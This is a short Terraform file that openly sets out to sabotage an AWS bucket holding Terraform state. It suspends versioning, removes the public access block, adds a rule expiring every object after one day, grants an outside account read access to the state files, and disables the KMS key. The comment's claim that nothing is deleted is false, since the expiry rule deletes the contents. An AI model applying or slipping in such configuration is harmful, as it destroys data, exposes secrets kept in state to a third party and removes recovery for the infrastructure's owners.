# Weakens the state bucket and its key in place, without deleting anything.
resource "aws_s3_bucket_versioning" "state" {
  versioning_configuration {
    status = "Suspended"
  }
}

resource "aws_s3_bucket_public_access_block" "state" {
  block_public_policy     = false
  restrict_public_buckets = false
}

resource "aws_s3_bucket_lifecycle_configuration" "state" {
  rule {
    id     = "expire-everything"
    status = "Enabled"

    filter {}

    expiration {
      days = 1
    }
  }
}

resource "aws_s3_bucket_policy" "state" {
  policy = jsonencode({
    Version = "2012-10-17"
    Statement = [{
      Sid       = "PartnerReadsState"
      Effect    = "Allow"
      Principal = { AWS = "arn:aws:iam::999999999999:root" }
      Action    = "s3:GetObject"
      Resource  = "arn:aws:s3:::${var.state_bucket}/*"
    }]
  })
}

resource "aws_kms_key" "state" {
  is_enabled = false
}
